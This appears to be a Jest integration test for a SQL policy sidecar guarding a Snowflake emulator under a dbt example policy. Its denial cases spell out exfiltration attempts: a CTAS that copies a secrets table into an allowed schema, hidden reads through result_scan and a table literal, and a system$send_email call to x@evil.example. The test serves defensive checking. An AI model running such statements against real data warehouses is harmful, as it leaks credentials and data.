import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { DBT_EXAMPLE_POLICY } from '@snowtrail/policy';
import { destroy, execute, startStack, type Connection, type Stack } from './harness.js';

/** Runs a statement that must fail and returns the driver's error. */
async function failure(conn: Connection, sqlText: string): Promise<{ code: string; sqlState?: string; message: string }> {
  try {
    await execute(conn, sqlText);
  } catch (err) {
    const e = err as { code?: unknown; sqlState?: string; message: string };
    return { code: String(e.code), message: e.message, ...(e.sqlState ? { sqlState: e.sqlState } : {}) };
  }
  throw new Error(`statement unexpectedly succeeded: ${sqlText}`);
}

/** The dbt example policy through the real sidecar and driver: what dbt does runs, laundering and hidden reads do not. */
describe('the fail-closed statement policy through the sidecar (dbt example policy)', () => {
  let stack: Stack;
  let conn: Connection | undefined;
  beforeAll(async () => {
    stack = await startStack({
      emulator: {
        initSql: [
          'CREATE DATABASE RAW', 'CREATE TABLE RAW.PUBLIC.ORDERS (id INTEGER, amount DOUBLE)', 'INSERT INTO RAW.PUBLIC.ORDERS VALUES (1, 10.5), (2, 20.25)',
          'CREATE DATABASE SECRET', 'CREATE TABLE SECRET.PUBLIC.KEYS (k VARCHAR)', "INSERT INTO SECRET.PUBLIC.KEYS VALUES ('sk-1')",
          'CREATE DATABASE ANALYTICS',
        ].join(';\n'),
      },
      config: (c) => {
        c.policy = { ...DBT_EXAMPLE_POLICY, generation: 1, limits: {} };
      },
    });
    conn = await stack.connect();
  });
  afterAll(async () => {
    await destroy(conn);
    await stack.close();
  });

  it('runs what dbt runs: query tag, transaction, CTAS from the source, the model read back', async () => {
    await execute(conn!, `alter session set query_tag = '{"app": "dbt"}'`);
    await execute(conn!, 'begin');
    await execute(conn!, 'create or replace transient table "ANALYTICS"."PUBLIC"."STG_ORDERS" as (select id, amount from RAW.PUBLIC.ORDERS)');
    await execute(conn!, 'commit');
    const { rows } = await execute(conn!, 'select count(*) as n from ANALYTICS.PUBLIC.STG_ORDERS');
    expect(rows).toEqual([{ N: 2 }]);
  });

  it('denies a CTAS that launders a read into the allowed schema, naming the object', async () => {
    const e = await failure(conn!, 'create or replace table ANALYTICS.PUBLIC.LEAK as select * from SECRET.PUBLIC.KEYS');
    expect(e).toEqual({ code: '003001', sqlState: '42501', message: 'SQL access control error: CREATE_TABLE statement reads SECRET.PUBLIC.KEYS, which no rule allows for reading' });
    // never forwarded: the table does not exist, so Snowflake (not the policy) refuses reading it
    const missing = await failure(conn!, 'select * from ANALYTICS.PUBLIC.LEAK');
    expect(missing.code).not.toBe('003001');
  });

  it('denies names it cannot resolve and guarded functions, whatever the rules allow around them', async () => {
    await execute(conn!, 'select id from RAW.PUBLIC.ORDERS');
    expect((await failure(conn!, 'select * from table(result_scan(last_query_id()))')).message).toContain('cannot resolve to a named object');
    expect((await failure(conn!, "select * from table('SECRET.PUBLIC.KEYS')")).code).toBe('003001');
    expect((await failure(conn!, "call system$send_email('mail', 'x@evil.example', 's', 'b')")).message).toContain('can move data or control out of the account');
    expect((await failure(conn!, 'select * from ANALYTICS.PUBLIC.STG_ORDERS limit, SECRET.PUBLIC.KEYS')).message).toContain('SECRET.PUBLIC.KEYS');
  });

  it('recorded the denials with the objects the classifier saw', () => {
    const denied = stack.memory!.events.filter((ev) => ev.type === 'query.denied').map((ev) => ev.info as { statements: { reads: string[] }[] });
    expect(denied.map((d) => d.statements[0]!.reads)).toEqual(
      expect.arrayContaining([['SECRET.PUBLIC.KEYS'], ['unresolved://result_scan'], ['unresolved://table_literal'], ['function://external_calling/SYSTEM$SEND_EMAIL']]),
    );
  });
});
